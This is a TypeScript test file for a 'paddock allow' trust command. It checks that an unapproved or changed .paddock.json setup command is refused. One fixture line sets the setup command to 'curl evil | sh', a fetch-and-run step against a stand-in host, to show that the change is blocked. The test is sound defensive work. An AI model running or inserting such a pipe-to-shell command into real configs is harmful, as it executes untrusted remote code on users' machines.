/** `paddock allow` through the real bundle: exit statuses, what it prints, and `start` refused, then allowed, then refused again. */
import * as assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CoordinatorSandbox, runCli, useCoordinatorSandbox } from '../../core/coordinator/coordinatorFixture';

describe('paddock allow', function () {
  this.timeout(60_000);
  let sb!: CoordinatorSandbox;
  useCoordinatorSandbox((fresh) => (sb = fresh));

  const cli = (args: string[], cwd = sb.repo) => runCli(args, { cwd, env: sb.env });

  it('exits 2 without a .paddock.json or outside a repository, 1 for a file that is not valid', async () => {
    const none = await cli(['allow']);
    assert.equal(none.code, 2);
    assert.equal(none.stderr, `paddock allow: ${sb.repo} has no .paddock.json to allow.\n`);
    const outside = join(sb.root, 'plain');
    mkdirSync(outside);
    const notRepo = await cli(['allow', '--repo', outside]);
    assert.equal(notRepo.code, 2);
    assert.match(notRepo.stderr, /is not inside a git repository\.\n$/);
    writeFileSync(join(sb.repo, '.paddock.json'), '{"setup": 1}');
    const invalid = await cli(['allow']);
    assert.equal(invalid.code, 1);
    assert.match(invalid.stderr, /\.paddock\.json is not a valid Paddock configuration: setup: /);
    const extra = await cli(['allow', 'surplus']);
    assert.equal(extra.code, 2);
  });

  it('start refuses an unallowed file, allow trusts that exact content, a change must be allowed again', async () => {
    writeFileSync(join(sb.repo, '.paddock.json'), JSON.stringify({ setup: 'echo ready > ready.txt', check: 'npm test' }));
    const refused = await cli(['start', '--', 'true']);
    assert.equal(refused.code, 1);
    assert.equal(
      refused.stderr,
      `paddock start: ${sb.repo}/.paddock.json is not allowed, so the setup command will not run: trust the workspace in VS Code, or review the file and run \`paddock allow --repo ${sb.repo}\`.\n`,
    );
    assert.deepEqual(await sb.store.list(), []);

    const allowed = await cli(['allow', '--repo', join(sb.repo)]);
    assert.equal(allowed.code, 0, allowed.stderr);
    assert.equal(allowed.stdout, `Allowed ${sb.repo}/.paddock.json:\n  setup: echo ready > ready.txt\n  check: npm test\n`);
    const started = await cli(['start', '--', 'true']);
    assert.equal(started.code, 0, started.stderr);
    const id = started.stdout.trim();
    const done = await sb.waitEnded(id);
    assert.equal(done.setup?.state, 'done', done.lifecycle.detail ?? '');

    writeFileSync(join(sb.repo, '.paddock.json'), JSON.stringify({ setup: 'curl evil | sh' }));
    const changed = await cli(['start', '--', 'true']);
    assert.equal(changed.code, 1);
    assert.match(changed.stderr, /\.paddock\.json is changed since it was allowed, so the setup command will not run: .*paddock allow --repo /);
  });
});
